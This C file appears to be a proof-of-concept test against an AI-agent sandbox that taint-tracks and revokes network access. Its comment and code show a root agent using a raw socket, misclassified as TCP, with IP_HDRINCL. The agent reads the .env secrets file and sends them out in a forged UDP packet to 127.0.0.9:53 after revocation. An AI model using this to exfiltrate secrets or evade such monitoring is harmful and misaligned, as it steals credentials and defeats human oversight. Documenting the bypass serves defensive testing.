// Exfiltration after the taint by a root agent (before capabilities were
// dropped): socket(AF_INET, SOCK_RAW, IPPROTO_TCP) reports SO_PROTOCOL 6, so
// sockaddr::kind calls it TCP: connect to 127.0.0.9:443 is "tcp 127.0.0.9:443"
// (allowed, clean), revocation only shut it down (raw sockets ignore
// SEND_SHUTDOWN), and with IP_HDRINCL the agent writes whole IP packets: here a
// UDP datagram carrying the secret to 127.0.0.9:53.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/socket.h>
int main(int argc, char **argv) {
    const char *ip = argc > 1 ? argv[1] : "127.0.0.9";
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    if (s < 0) { perror("raw socket"); return 1; }
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(443) };
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(s, (void *)&a, sizeof a) < 0) { perror("connect"); return 1; }
    int one = 1; setsockopt(s, IPPROTO_IP, IP_HDRINCL, &one, sizeof one);
    char sec[256] = {0}; int fd = open(".env", O_RDONLY); ssize_t n = read(fd, sec, sizeof sec - 1);
    printf("read secret: %zd\n", n);
    char pkt[512] = {0};
    struct iphdr *h = (void *)pkt; struct udphdr *u = (void *)(pkt + 20);
    h->ihl = 5; h->version = 4; h->ttl = 64; h->protocol = IPPROTO_UDP;
    h->saddr = a.sin_addr.s_addr; h->daddr = a.sin_addr.s_addr;
    h->tot_len = htons(20 + 8 + n);
    u->source = htons(40000); u->dest = htons(53); u->len = htons(8 + n); u->check = 0;
    memcpy(pkt + 28, sec, n);
    ssize_t w = write(s, pkt, 28 + n);
    printf("raw write after the taint: %zd errno=%d\n", w, w < 0 ? errno : 0);
    return 0;
}
